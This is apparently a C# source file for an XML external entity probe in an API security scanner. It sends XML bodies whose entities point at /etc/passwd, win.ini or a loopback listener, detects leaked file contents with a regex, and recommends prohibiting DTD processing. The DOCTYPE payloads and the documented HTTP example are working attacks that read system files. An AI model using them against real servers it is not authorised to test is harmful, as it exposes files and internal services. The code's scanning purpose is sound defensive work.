using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Assay.Contract;
using Assay.Contract.OpenApi;
using Assay.Probe.Resources;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Request;

/// <summary>XML external entities: a body names files and addresses, and the server reads them.</summary>
public sealed partial class ExternalEntity : OperationProbe
{
    // {1} an address. The last two need no place in the document.
    private static readonly (string Doctype, string Content)[] Forms =
    [
        ("<!DOCTYPE {0} [<!ENTITY zq SYSTEM \"{1}\">]>", "&zq;"),
        ("<!DOCTYPE {0} SYSTEM \"{1}\">", "assay"),
        ("<!DOCTYPE {0} [<!ENTITY % zq SYSTEM \"{1}\"> %zq;]>", "assay"),
    ];

    /// <inheritdoc/>
    public override string Code => "ZTP123";

    /// <inheritdoc/>
    public override string Name => "xml-external-entity";

    /// <inheritdoc/>
    public override Threat Threat => Threat.XmlExternalEntity;

    /// <inheritdoc/>
    public override Flow Flow => Flow.Request;

    /// <inheritdoc/>
    public override string Doc => """
        ## What it does
        Sends XML bodies whose document type names an entity that lies elsewhere: at a listener of the probe's own, with a
        nonce, or in a file that every system has. Only a request that arrives, or the file in the answer, is a finding.
        ## Why it matters
        The parser reads the server's files and calls services behind the firewall, for everyone who may send XML.
        ## Bad
        ```http
        POST /notes HTTP/1.1
        Content-Type: application/xml

        <!DOCTYPE note [<!ENTITY x SYSTEM "file:///etc/passwd">]><note><text>&x;</text></note>

        HTTP/1.1 201
        <note><text>root:x:0:0:root:/root:/bin/bash</text></note>
        ```
        ## Good
        ```http
        POST /notes HTTP/1.1
        Content-Type: application/xml

        <!DOCTYPE note [<!ENTITY x SYSTEM "file:///etc/passwd">]><note><text>&x;</text></note>

        HTTP/1.1 400
        ```
        """;

    internal override bool Writes => true;

    internal override bool Concerns(Subject subject) =>
        subject.Control is { IsDenied: false } && subject.Operation.Method is "POST" or "PUT" or "PATCH" && Xml(subject.Operation) is not null;

    internal override async IAsyncEnumerable<Finding> AttackAsync(Scene scene, Subject subject)
    {
        var type = Xml(subject.Operation)!;
        var arguments = subject.Arguments;
        ApiObject? mine = null;
        if (subject.Kind is { } kind && (mine = await scene.Store.CreateAsync(kind, subject.Caller, scene.Generator($"{Code} {subject.Operation.Title}"))) is not null)
        {
            arguments = mine.Bind(subject.Operation, arguments);
        }

        var body = arguments.Body ?? new JsonObject();
        var proof = await FileAsync(scene, subject, arguments, type, body) ?? await CallbackAsync(scene, subject, arguments, type, body);
        if (proof is { } found)
        {
            if (mine is not null)
            {
                mine.IsKept = true;
            }

            yield return Found(
                new CallLocation(subject.Operation.Title, "body"),
                $"`{subject.Operation.Title}` follows the external entities of its XML",
                "forbid document types in the parser's settings (`DtdProcessing.Prohibit`), and give it no resolver",
                scene.Evidence(found.Attack, found.Why));
        }
    }

    private static async Task<InputProof?> FileAsync(Scene scene, Subject subject, Arguments arguments, MediaType type, JsonNode body)
    {
        foreach (var file in (string[])["file:///etc/passwd", "file:///c:/windows/win.ini"])
        {
            var attack = await SendAsync(scene, subject, arguments, type, body, Forms[0].Doctype.Replace("{1}", file, StringComparison.Ordinal), Forms[0].Content);
            if (!HoldsFile(attack.Answer.Text))
            {
                continue;
            }

            var control = await SendAsync(scene, subject, arguments, type, body, "", "assay");
            var again = await SendAsync(scene, subject, arguments, type, body, Forms[0].Doctype.Replace("{1}", file, StringComparison.Ordinal), Forms[0].Content);
            if (!HoldsFile(control.Answer.Text) && HoldsFile(again.Answer.Text))
            {
                return new InputProof(attack, $"the answer holds the server's `{file[7..]}`, twice; without the entity it does not");
            }
        }

        return null;
    }

    private static async Task<InputProof?> CallbackAsync(Scene scene, Subject subject, Arguments arguments, MediaType type, JsonNode body)
    {
        if (!scene.Origin.IsLoopback)
        {
            scene.CouldNot(subject.Operation.Title, "ZTP123 xml-external-entity: the target is on another machine and cannot reach the listener on this one");
            return null;
        }

        foreach (var (doctype, content) in Forms)
        {
            var nonce = scene.Listener.Nonce(scene.Mark);
            var url = $"http://127.0.0.1:{scene.Listener.Port}/{nonce}";
            var attack = await SendAsync(scene, subject, arguments, type, body, doctype.Replace("{1}", url, StringComparison.Ordinal), content);
            if (await scene.Listener.HitAsync(nonce, TimeSpan.FromMilliseconds(200)) is { } line)
            {
                return new InputProof(attack, $"the server itself asked the probe's listener for the nonce: `{Assay.Contract.Text.Names.Short(line)}`");
            }
        }

        return null;
    }

    private static async Task<Exchange> SendAsync(Scene scene, Subject subject, Arguments arguments, MediaType type, JsonNode body, string doctype, string content)
    {
        var call = scene.Calls.Build(subject.Operation, arguments, subject.Caller) with
        {
            ContentType = type.Range.Contains('*') ? "application/xml" : type.Range,
            Body = Encoding.UTF8.GetBytes(XmlText.Write(type, body, doctype, content)),
        };
        return new Exchange(call, await scene.SendAsync(call));
    }

    private static MediaType? Xml(Operation operation) => operation.RequestBody?.Content.FirstOrDefault(XmlText.IsXml);

    private static bool HoldsFile(string text) => File().IsMatch(text);

    [GeneratedRegex("root:[^:\\s\\\\]{0,4}:0:0:|; for 16-bit app support", RegexOptions.NonBacktracking)]
    private static partial Regex File();
}
